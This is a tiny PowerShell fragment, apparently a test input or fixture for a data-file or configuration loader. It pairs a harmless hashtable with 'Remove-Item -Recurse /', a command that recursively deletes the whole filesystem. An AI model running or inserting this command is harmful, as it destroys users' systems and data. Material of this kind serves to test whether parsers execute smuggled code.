@{ title = 'x' }
Remove-Item -Recurse /
